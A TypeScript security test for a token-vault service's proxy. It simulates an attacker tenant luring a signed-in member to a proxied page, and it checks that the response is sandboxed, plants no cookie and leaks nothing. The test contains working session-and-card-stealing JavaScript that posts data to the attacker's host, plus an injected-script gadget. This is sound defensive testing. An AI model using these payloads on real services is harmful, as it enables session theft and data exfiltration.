// Finding 1: an attacker tenant makes a `require_auth: false` proxy to a page of its own and sends
// its link (`/proxy?svc-proxy-key=…`, on the service's origin) to a member of another tenant. The
// member, signed in to the console in Chromium, follows it. The page's script reads
// /sessions/self and /tokens same-origin with the member's cookie and posts what it got to the
// attacker, through the same proxy and directly; its answer also tries to plant a cookie. The
// proxied answer must be inert (CSP sandbox: no script runs, the document has no origin), carry
// no Set-Cookie, and the member's cookie must never reach the attacker's destination.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launchChromium } from '../support/browser.ts';
import { uniqueCardNumber } from '../support/cards.ts';
import { signInThroughConsole } from '../support/console.ts';
import { startSmtpServer, type TestSmtpServer } from '../support/smtp.ts';
import { startStack, type TestStack, type TestTenant } from '../support/stack.ts';
import { startHttpDestination, type TestDestination } from '../support/destinations.ts';

/** The attacker's page: it steals what the member's session can read and reports it twice. */
const attackerPage = (proxyKey: string, attackerUrl: string) => `<!doctype html>
<html><head><title>Your invoice</title></head><body><p>Loading your invoice…</p>
<script>
(async () => {
  new Image().src = ${JSON.stringify(`${attackerUrl}/ran`)};
  const stolen = { cookie: document.cookie };
  for (const path of ['/sessions/self', '/tokens?size=20']) {
    try {
      const answer = await fetch(path, { credentials: 'include' });
      stolen[path] = { status: answer.status, body: await answer.text() };
    } catch (error) {
      stolen[path] = String(error);
    }
  }
  const report = JSON.stringify(stolen);
  await fetch('/proxy/exfil?svc-proxy-key=${proxyKey}', {
    method: 'POST', headers: { 'content-type': 'text/plain' }, body: report,
  }).catch(() => {});
  await fetch(${JSON.stringify(`${attackerUrl}/exfil-direct`)}, {
    method: 'POST', mode: 'no-cors', body: report,
  }).catch(() => {});
})();
</script></body></html>`;

describe('attack: a proxied page run on the service’s origin steals a signed-in member’s session and cards', () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let stack: TestStack;
  let smtp: TestSmtpServer;
  let victim: TestTenant;
  let attacker: TestTenant;
  let attackerSite: TestDestination;
  let victimEmail: string;
  let proxyKey: string;
  const cardNumber = uniqueCardNumber();

  beforeAll(async () => {
    smtp = await startSmtpServer();
    [browser, stack, attackerSite] = await Promise.all([
      launchChromium(),
      startStack({ SMTP_URL: smtp.url, PROXY_ALLOWED_PRIVATE_ADDRESSES: '127.0.0.1' }),
      startHttpDestination('127.0.0.1'),
    ]);
    victim = await stack.createTenant('Victim Corp');
    attacker = await stack.createTenant('Attacker Ltd');
    const members = await victim.client.request<{ data: { user: { email: string } }[] }>(
      'GET',
      '/tenants/self/members',
    );
    victimEmail = members.body.data[0]!.user.email;
    const card = await victim.client.request('POST', '/tokens', {
      body: {
        type: 'card',
        data: { number: cardNumber, expiration_month: 1, expiration_year: 2031, cvc: '987' },
      },
    });
    expect(card.status).toBe(201);
    const proxy = await attacker.client.request<{ key: string }>('POST', '/proxies', {
      body: { name: 'Invoices', destination_url: attackerSite.url, require_auth: false },
    });
    expect(proxy.status, JSON.stringify(proxy.body)).toBe(201);
    proxyKey = proxy.body.key;
    attackerSite.answer((request, res) => {
      if (request.url.startsWith('/gadget.js')) {
        res.writeHead(200, { 'content-type': 'text/javascript' });
        // The console's CSP lets it talk to its own origin only: the proxy is on it.
        res.end(
          `fetch('/sessions/self').then((a) => a.text()).then((t) => fetch('/proxy/from-console?svc-proxy-key=${proxyKey}', { method: 'POST', body: t }));`,
        );
      } else if (request.url.startsWith('/invoice')) {
        res.writeHead(200, {
          'content-type': 'text/html; charset=utf-8',
          'set-cookie': 'planted=by-the-attacker; Path=/',
          'content-security-policy': "script-src 'unsafe-inline' *",
        });
        res.end(attackerPage(proxyKey, attackerSite.url));
      } else {
        res.writeHead(204, { 'access-control-allow-origin': '*' });
        res.end();
      }
    });
    context = await browser.newContext();
    page = await context.newPage();
    await signInThroughConsole(page, stack.url, smtp, victimEmail);
  }, 600_000);
  afterAll(async () => {
    await context?.close();
    await browser?.close();
    await attackerSite?.close();
    await stack?.stop();
    await smtp?.stop();
  });

  it('the member follows the link: the page runs nothing, plants nothing, and the attacker receives nothing of the session', async () => {
    const before = await context.cookies(stack.url);
    const session = before.find((cookie) => cookie.name === 'tv_session')!.value;
    expect(session).toMatch(/^tvs_/);
    attackerSite.received.length = 0;

    const answer = await page.goto(`${stack.url}/proxy/invoice?svc-proxy-key=${proxyKey}`);
    // Long enough for the script's fetches to arrive, had it run.
    await page.waitForTimeout(3_000);

    // The attacker got the page request only, without the member's cookie; the script never ran.
    const everything = attackerSite.received
      .map((request) => `${request.url} ${JSON.stringify(request.headers)} ${request.body.toString()}`)
      .join('\n');
    expect.soft(everything).not.toContain(session);
    expect.soft(everything).not.toContain(cardNumber);
    expect.soft(everything).not.toContain(victimEmail);
    expect.soft(attackerSite.received.map((request) => request.url)).toEqual(['/invoice']);
    expect.soft(attackerSite.received[0]!.headers.cookie).toBeUndefined();

    // No cookie was planted on the service's origin, and the member's session is the member's.
    const after = await context.cookies(stack.url);
    expect
      .soft(after.map((cookie) => cookie.name).sort())
      .toEqual(before.map((cookie) => cookie.name).sort());
    expect.soft(after.find((cookie) => cookie.name === 'tv_session')!.value).toBe(session);

    expect.soft(answer?.status()).toBe(200);
    const headers = answer!.headers();
    expect
      .soft(headers['content-security-policy'])
      .toBe("sandbox; default-src 'none'; frame-ancestors 'none'");
    expect.soft(headers['x-content-type-options']).toBe('nosniff');
    expect.soft(headers['set-cookie']).toBeUndefined();
  });

  it('an HTML injection in the console cannot load the attacker’s proxied script: /proxy is never a script of a page', async () => {
    await page.goto(`${stack.url}/console`);
    await page.getByRole('button', { name: `Sign out ${victimEmail}` }).waitFor();
    attackerSite.received.length = 0;
    // What an injected <script src> would do: the console's CSP allows scripts of its own origin.
    const loaded = await page.evaluate<string>(
      `new Promise((resolve) => {
        const script = document.createElement('script');
        script.src = '/proxy/gadget.js?svc-proxy-key=${proxyKey}';
        script.onload = () => resolve('loaded');
        script.onerror = () => resolve('refused');
        document.head.append(script);
      })`,
    );
    await page.waitForTimeout(2_000);
    expect.soft(attackerSite.received.map((request) => request.url.split('?')[0])).toEqual([]);
    expect(loaded).toBe('refused');
  });
});
